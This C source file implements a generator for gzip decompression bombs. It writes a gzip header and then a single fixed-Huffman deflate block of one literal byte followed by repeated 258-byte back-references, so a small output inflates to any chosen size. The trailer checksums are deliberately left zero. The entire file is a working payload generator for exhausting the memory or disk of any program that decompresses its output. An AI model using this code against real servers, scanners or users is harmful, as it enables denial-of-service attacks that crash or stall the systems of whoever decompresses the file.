#include "gzip_bomb.h"

#include <stdlib.h>
#include <string.h>

typedef struct bits {
    unsigned char *bytes;
    size_t count;
} bits;

static void put_bit(bits *to, unsigned bit)
{
    to->bytes[to->count / 8] |= (unsigned char)(bit << to->count % 8);
    to->count++;
}

/* Huffman codes go out from their highest bit on [RFC 1951, 3.1.1]. */
static void put_code(bits *to, unsigned code, int length)
{
    for (int i = length - 1; i >= 0; i--)
        put_bit(to, code >> i & 1);
}

char *gzip_bomb(size_t inflated, size_t *length)
{
    static const unsigned char head[] = {0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
    enum { LONGEST_MATCH = 258, TRAILER = 8 };
    size_t matches = inflated / LONGEST_MATCH + 1;
    size_t room = sizeof head + matches * 13 / 8 + 8 + TRAILER;
    bits to = {calloc(room, 1), sizeof head * 8};
    if (to.bytes == NULL)
        abort();
    memcpy(to.bytes, head, sizeof head);
    put_bit(&to, 1); /* the last block, ... */
    put_bit(&to, 1); /* ... with fixed codes [3.2.6] */
    put_bit(&to, 0);
    put_code(&to, 0x30 + ' ', 8);
    for (size_t i = 0; i < matches; i++) {
        put_code(&to, 0xc5, 8); /* 258 bytes ... */
        put_code(&to, 0, 5);    /* ... from one byte back */
    }
    put_code(&to, 0, 7); /* end of the block; nobody reads as far as the checksums of the trailer */
    *length = (to.count + 7) / 8 + TRAILER;
    return (char *)to.bytes;
}
